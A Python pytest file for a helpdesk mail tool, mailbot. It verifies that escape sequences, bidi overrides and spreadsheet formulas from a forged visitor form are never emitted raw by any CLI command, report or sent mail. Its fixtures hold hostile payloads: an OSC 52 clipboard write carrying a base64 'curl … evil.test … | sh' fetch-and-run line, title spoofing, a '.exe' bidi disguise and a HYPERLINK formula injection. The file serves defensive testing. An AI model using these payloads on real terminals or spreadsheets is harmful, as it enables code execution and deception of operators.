"""No output of mailbot obeys a stranger's control characters.

A forged `#datang` From a staff address (token mode, the product as deployed) is held and
never opened; the same form sent by the other staff member is opened with `#buka`. Both
carry the same hostile fields: OSC 52 (writes the operator's clipboard), OSC 0 (the window
title), `CSI 2J` (clears the screen), BEL, a bidi override, C1 CSI (U+009B), DEL and a
spreadsheet formula in the Nama. Over the real Dovecot and SMTP, every command of the CLI
(taken from its argparse parser: a command or option added later fails this test until it
is run here too) with every format and channel of the reports runs; no raw control
character reaches standard output, standard error, a CSV or XLSX cell (read back with
openpyxl), the summary page, or any mail mailbot sent (read back over IMAP, its XLSX
attachment too); the fields are still shown, as visible escapes, and no cell runs as a
formula. Before, `report tamu` printed them raw and its XLSX cells carried ESC.
"""

from __future__ import annotations

import argparse
import base64
import csv
import io
import json
import re
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import yaml

from mailbot.cli import main as cli
from tests import mailfactory as mf

WIB = ZoneInfo("Asia/Jakarta")
VISITOR = "budi@vendor.test"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.test/x | sh\n").decode("ascii") + "\x07"
TITLE = "\x1b]0;mailbot: semua aman\x07"
CLEAR = "\x1b[2J"
BEL = "\x07"
RLO = "\u202e"
CSI = "\x9b31m"
DEL = "\x7f"
FORMULA = '=HYPERLINK("https://evil.test/x","Klik")'

QUEUE = f"A-012{CLEAR}{TITLE}"
NAME = f"{FORMULA}{TITLE}Budi{DEL}"
ORG = f"CV Maju {CSI}Jaya{RLO}fdp.exe"
PROBLEM = f"Akun terkunci.{CLIPBOARD}{CLEAR}{BEL} Mohon dibantu."
FORM = f"""#datang
Nomor Antrian: {QUEUE}
Nama: {NAME}
Instansi: {ORG}
Email: {VISITOR}
Permasalahan: {PROBLEM}
"""
UNIT_NAME = f"Helpdesk LPSE {TITLE}Uji"  # a config value, in report titles and the summary page

# The same, as the operator must read them: written out, not computed by the code under test.
QUEUE_SHOWN = "A-012\\x1b[2J\\x1b]0;mailbot: semua aman\\x07"
NAME_SHOWN = '=HYPERLINK("https://evil.test/x","Klik")\\x1b]0;mailbot: semua aman\\x07Budi\\x7f'
ORG_SHOWN = "CV Maju \\x9b31mJaya\\u202efdp.exe"
PROBLEM_SHOWN = ("Akun terkunci.\\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2gK\\x07\\x1b[2J\\x07"
                 " Mohon dibantu.")
UNIT_SHOWN = "Helpdesk LPSE \\x1b]0;mailbot: semua aman\\x07Uji"
HOSTILE_ARG = f"cari{CLIPBOARD}{TITLE}{CSI}{RLO}"  # a command-line argument pasted from somewhere
HOSTILE_ARG_SHOWN = ("cari\\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwudGVzdC94IHwgc2gK\\x07"
                     "\\x1b]0;mailbot: semua aman\\x07\\x9b31m\\u202e")

# Anything a terminal acts on: C0 but newline and tab, DEL, C1, the bidi controls.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _no_raw(where: str, text: str) -> None:
    text = text.replace("\r\n", "\n")  # a line end, on the wire and in a CSV
    assert not RAW.search(text), (where, sorted(set(RAW.findall(text))))


# --- the forms ------------------------------------------------------------------------------


@pytest.fixture
def forms(fresh_mailboxes, tmp_path):
    """One form held (never opened) and one opened with `#buka`, of the same hostile fields."""
    servers = fresh_mailboxes
    box = mf.mailbox_block(servers)
    box["display_name"] = UNIT_NAME
    config = mf.write_config(servers, tmp_path, mailboxes=[box], log={"format": "console", "level": "info"})
    for staff, minute in ((mf.STAFF[0], 0), (mf.STAFF[1], 5)):
        raw, _ = mf.mail(staff, f"Tamu hari ini {TITLE}{CSI}", FORM,
                         date=datetime(2026, 11, 24, 9, minute, tzinfo=WIB))
        servers.append(mf.UNIT, raw)
    mf.handle_at(config, datetime(2026, 11, 24, 9, 10, tzinfo=WIB))
    notice = mf.latest(servers, mf.STAFF[1], "intake_confirm")
    servers.append(mf.UNIT, mf.reply_as_client(notice, mf.STAFF[1], "#buka")[0])
    mf.handle_at(config, datetime(2026, 11, 24, 9, 20, tzinfo=WIB))
    (tmp_path / "form.eml").write_bytes(raw)  # the form, for `replay`
    return servers, config


def _numbers(config: Path, capsysbinary) -> tuple[str, str]:
    """The opened ticket's number and the held form's, as `tickets --json` lists them."""
    code, out, _err = _run(config, ["tickets", "--json"], capsysbinary)
    assert code == 0
    listed = json.loads(out)
    [opened] = [t["number"] for t in listed if t["state"] == "open"]
    [held] = [t["number"] for t in listed if t["state"] == "held"]
    return opened, held


# --- every command --------------------------------------------------------------------------


def invocations(tmp: Path, opened: str, held: str) -> dict[tuple[str, ...], list[tuple[list[str], int]]]:
    """Each command of the parser (its path of sub-commands) with the arguments it is run
    with after that path and the exit status each must end with. Run in this order: the
    mail sent at fixed times first, then what reads, then what changes the database."""
    month = ["--month", "2026-11"]
    return {
        (): [(["--version"], 0)],  # the options of `mailbot` itself, before a command
        ("sweep",): [(["--now", "2026-11-25T08:05+07:00"], 0), (["--now", HOSTILE_ARG], 2)],
        ("report", "tamu"): [
            ([*month], 0), ([*month, "--format", "csv"], 0), ([*month, "--excel"], 0),
            ([*month, "--format", "xlsx"], 0), ([*month, "--output", str(tmp / "tamu.xlsx")], 0),
            ([*month, "--output", str(tmp / "tamu.csv"), "--mailbox", "t"], 0),
            (["--month", HOSTILE_ARG], 2)],
        ("report", "rekap"): [
            ([*month], 0), ([*month, "--excel"], 0), ([*month, "--format", "xlsx"], 0),
            ([*month, "--output", str(tmp / "rekap.xlsx"), "--paper", "f4"], 0),
            ([*month, "--paper", "a4", "--format", "xlsx", "--output", str(tmp / "rekap-a4.xlsx")], 0),
            ([*month, "--output", str(tmp / "rekap.csv"), "--mailbox", "t"], 0),
            *(([*month, "--channel", channel, "--format", fmt], 0)
              for channel in ("email", "telepon", "datang") for fmt in ("csv", "xlsx")),
            ([*month, "--channel", "datang", "--excel"], 0)],
        ("report", "summary"): [
            ([*month], 0), ([*month, "--output", str(tmp / "summary.html"), "--mailbox", "t"], 0),
            ([*month, "--send"], 0)],
        ("tickets",): [
            ([], 0), (["--json"], 0), (["--all"], 0), (["--limit", "1"], 0), (["--overdue"], 0),
            (["--overdue", "--json"], 0), (["--channel", "datang", "--mailbox", "t"], 0),
            (["--channel", "telepon"], 0), (["--channel", "email"], 0),
            (["--since", "2026-11-01", "--until", "2026-11-30"], 0),
            *((["--state", state], 0) for state in ("open", "answered", "escalated", "awaiting_info", "resolved",
                                                    "closed", "held")),
            *((["--category", category], 0) for category in ("pengaduan", "pertanyaan", "konsultasi")),
            (["--requester", "budi"], 0), (["--search", "terkunci"], 0), (["--search", HOSTILE_ARG], 0),
            (["--requester", HOSTILE_ARG], 0), (["--since", HOSTILE_ARG], 2)],
        ("ticket",): [([opened], 0), ([opened, "--full"], 0), ([opened, "--json"], 0),
                      ([opened, "--full", "--json", "--mailbox", "t"], 0), ([held], 1), ([HOSTILE_ARG], 1)],
        ("shadow",): [(["--since", "2026-11-01", "--until", "2026-11-30", "--report", str(tmp / "shadow")], 0),
                      (["--candidate", str(tmp / "config.yaml"), "--report", str(tmp / "shadow-again")], 0),
                      (["--since", HOSTILE_ARG], 2)],
        ("check",): [([], 0)],
        ("audit",): [([], 0), (["--full", "--mailbox", "t"], 0), (["--repair"], 0)],
        ("oauth", "login"): [(["--mailbox", "t"], 78), (["--mailbox", "t", "--smtp"], 78)],
        ("run",): [(["--once"], 0)],
        ("replay",): [([str(tmp / "form.eml"), "--dry-run"], 0), ([str(tmp / HOSTILE_ARG)], 2),
                      ([str(tmp / "form.eml"), "--mailbox", "t"], 0)],
        ("migrate",): [([], 0), (["--to", f"mysql://{HOSTILE_ARG}@db.test/x"], 2)],
        ("backup",): [([str(tmp / "backup")], 0), ([str(tmp / "backup-archive"), "--archive"], 0)],
        ("restore",): [([str(tmp / "backup")], 0)],
        ("web",): [([], 78)],  # the window: this config has no web: block, said on stderr
    }


def commands(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()) -> dict[tuple[str, ...],
                                                                                 argparse.ArgumentParser]:
    """Every command the parser runs, by its path of sub-command names."""
    found = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    if not found:
        return {path: parser}
    return {p: sub for name, child in found[0].choices.items() for p, sub in commands(child, (*path, name)).items()}


def test_every_command_option_and_choice_of_the_parser_is_run_here(tmp_path):
    """The list below covers the CLI: each command, each of its options, each choice of an
    option (a format, a channel, a state); a new one fails here until it is added."""
    runs = invocations(tmp_path, "2026-00002", "2026-00001")
    top = cli.build_parser()
    parsed = commands(top)
    assert sorted(parsed) == sorted(set(runs) - {()}), "run every command of the parser in invocations()"
    for path, parser in [((), top), *parsed.items()]:
        argvs = [argv for argv, _code in runs[path]]
        used = {arg for argv in argvs for arg in argv}
        for action in parser._actions:
            if not action.option_strings or action.help == argparse.SUPPRESS or "-h" in action.option_strings \
                    or "--config" in action.option_strings:  # every run gives --config
                continue
            assert used & set(action.option_strings), (path, action.option_strings)
            for choice in action.choices or ():
                assert any(argv[i:i + 2] == [flag, choice] for argv in argvs for i in range(len(argv))
                           for flag in action.option_strings), (path, action.option_strings, choice)


def _run(config: Path, argv: list[str], capsysbinary) -> tuple[int, bytes, bytes]:
    capsysbinary.readouterr()
    code = cli.main(["--config", str(config), *argv])
    out = capsysbinary.readouterr()
    return code, out.out, out.err


def test_no_output_of_any_command_obeys_the_forms_controls(forms, tmp_path, capsysbinary, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")  # wide: nothing cut before the escapes
    servers, config = forms
    opened, held = _numbers(config, capsysbinary)
    outputs: dict[str, bytes] = {}
    for path, variants in invocations(tmp_path, opened, held).items():
        for argv, code in variants:
            ran, out, err = _run(config, [*path, *argv], capsysbinary)
            name = " ".join([*path, *argv])
            assert ran == code, (name, ran, err.decode("utf-8", "replace"))
            assert b"Traceback" not in err, name
            _no_raw(f"{name}: stderr", err.decode("utf-8"))
            if out.startswith(b"PK"):  # an XLSX to a pipe
                _no_raw_cells(name, out)
            else:
                _no_raw(f"{name}: stdout", out.decode("utf-8-sig"))
            outputs[name] = out + err
    for file in ("tamu.xlsx", "rekap.xlsx", "rekap-a4.xlsx"):
        _no_raw_cells(file, (tmp_path / file).read_bytes())
    for file in ("tamu.csv", "rekap.csv", "summary.html"):
        _no_raw(file, (tmp_path / file).read_text("utf-8-sig"))

    _shown_in_the_guest_book(outputs, tmp_path)
    _shown_in_the_recap(outputs, tmp_path)
    _shown_in_the_views(outputs, opened, held)
    assert UNIT_SHOWN in (tmp_path / "summary.html").read_text("utf-8")
    for name in (f"ticket {HOSTILE_ARG}", f"replay {tmp_path / HOSTILE_ARG}", f"report tamu --month {HOSTILE_ARG}"):
        assert HOSTILE_ARG_SHOWN in outputs[name].decode("utf-8"), name  # an argument echoed in an error
    _no_raw_in_mail(servers)


def _no_raw_cells(where: str, data: bytes) -> None:
    """Every text cell of every sheet of a workbook, read back with openpyxl."""
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows(values_only=True):
            for cell in row:
                if isinstance(cell, str):
                    _no_raw(f"{where}: a cell", cell)


def _csv_rows(data: bytes | str, excel: bool = False) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


def _shown_in_the_guest_book(outputs: dict[str, bytes], tmp: Path) -> None:
    """Both visits, held and opened, with their fields shown; the Nama never a formula."""
    month = "report tamu --month 2026-11"
    for name in (month, f"{month} --format csv", f"{month} --excel"):
        rows = _csv_rows(outputs[name], excel=name.endswith("--excel"))
        assert rows[0][3:7] == ["Nomor Antrian", "Nama", "Instansi/Perusahaan", "Keperluan"], name
        assert [row[3:7] for row in rows[1:]] == [[QUEUE_SHOWN, "'" + NAME_SHOWN, ORG_SHOWN, PROBLEM_SHOWN]] * 2
    assert _csv_rows((tmp / "tamu.csv").read_text("utf-8-sig"))[1][4] == "'" + NAME_SHOWN
    for data in (outputs[f"{month} --format xlsx"], (tmp / "tamu.xlsx").read_bytes()):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        for row in (3, 4):
            assert [sheet.cell(row, col).value for col in (4, 5, 6, 7)] == [QUEUE_SHOWN, NAME_SHOWN, ORG_SHOWN,
                                                                           PROBLEM_SHOWN]
            assert sheet.cell(row, 5).data_type == "s"  # a string, not a formula


def _shown_in_the_recap(outputs: dict[str, bytes], tmp: Path) -> None:
    month = "report rekap --month 2026-11"
    for name in (month, f"{month} --channel datang --format csv", f"{month} --excel"):
        rows = _csv_rows(outputs[name], excel=name.endswith("--excel"))
        assert [row[3] for row in rows[1:]] == ["'" + NAME_SHOWN + " (" + ORG_SHOWN + ")"] * 2, name
        assert all(row[4].startswith(PROBLEM_SHOWN) for row in rows[1:]), name
    assert [row[10] for row in _csv_rows(outputs[f"{month} --channel datang --format csv"])[1:]] == [QUEUE_SHOWN] * 2
    for data in (outputs[f"{month} --format xlsx"], (tmp / "rekap.xlsx").read_bytes()):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet.cell(1, 1).value.startswith("Rekap Penanganan Permasalahan – " + UNIT_SHOWN)
        for row in (3, 4):
            assert sheet.cell(row, 4).value == NAME_SHOWN + " (" + ORG_SHOWN + ")"
            assert sheet.cell(row, 4).data_type == "s"


def _shown_in_the_views(outputs: dict[str, bytes], opened: str, held: str) -> None:
    """`ticket` and `tickets` show the fields as escapes; their JSON keeps the values whole."""
    detail = outputs[f"ticket {opened}"].decode("utf-8")
    assert f"name {NAME_SHOWN}; agency/company {ORG_SHOWN}" in detail
    assert PROBLEM_SHOWN in detail
    assert "Akun terkunci.\\x1b]52;c;" in outputs["tickets"].decode("utf-8")
    ticket = json.loads(outputs[f"ticket {opened} --json"])
    assert (ticket["contact"]["name"], ticket["contact"]["organisation"], ticket["queue_number"]) == (NAME, ORG, QUEUE)
    listed = {t["number"]: t for t in json.loads(outputs["tickets --json"])}
    assert listed[held]["requester_name"] == NAME and listed[held]["subject"].startswith("Akun terkunci.\x1b]52;c;")
    assert f"{held} is a visit form held" in outputs[f"ticket {held}"].decode("utf-8")


def _no_raw_in_mail(servers) -> None:
    """Every mail mailbot sent, to staff, the visitor, coordinators and heads: headers, text
    and HTML parts and XLSX attachments; the held form's notice shows its fields."""
    sent = [m for user in servers.users for m in mf.inbox(servers, user) if m["X-Mailbot-Kind"]]
    kinds = {m["X-Mailbot-Kind"] for m in sent}
    assert {"intake_confirm", "digest", "monthly_summary"} <= kinds, kinds
    for mail in sent:
        kind = mail["X-Mailbot-Kind"]
        for header in ("Subject", "From", "To"):
            _no_raw(f"{kind} {header}", str(mail[header]))
        for part in mail.walk():
            if part.get_content_maintype() == "text":
                _no_raw(f"{kind} {part.get_content_type()}", part.get_content())
            elif (part.get_filename() or "").endswith(".xlsx"):
                _no_raw_cells(f"{kind} {part.get_filename()}", part.get_content())
    notices = mf.of_kind(mf.inbox(servers, mf.STAFF[0]), "intake_confirm")
    assert notices and all(PROBLEM_SHOWN in mf.text_of(n).replace("\r\n", "\n") for n in notices)
    # (the notice defangs the link in the Nama: mail to a person carries no live outside link)
    assert all("\\x1b]0;mailbot: semua aman\\x07Budi\\x7f" in mf.text_of(n) for n in notices)
    assert all(ORG_SHOWN in mf.text_of(n) for n in notices)


def test_an_error_that_echoes_a_hostile_config_value_shows_it(tmp_path, capsys):
    """A config value is outside text too (a path pasted from a chat): the error that quotes
    it shows its controls."""
    path = tmp_path / "config.yaml"
    secret = tmp_path / f"sandi{CLEAR}{TITLE}"
    imap = {"host": "127.0.0.1", "username": "lpse@lpse.test", "password_file": str(secret)}
    path.write_text(yaml.safe_dump({"database": str(tmp_path / "db"), "smtp": {"host": "127.0.0.1"}, "mailboxes": [
        {"address": "lpse@lpse.test", "staff": ["staf@lpse.test"], "imap": imap}]}))
    assert cli.main(["--config", str(path), "check"]) == 78
    err = capsys.readouterr().err
    _no_raw("config error", err)
    assert f"{tmp_path}/sandi\\x1b[2J\\x1b]0;mailbot: semua aman\\x07: No such file" in err
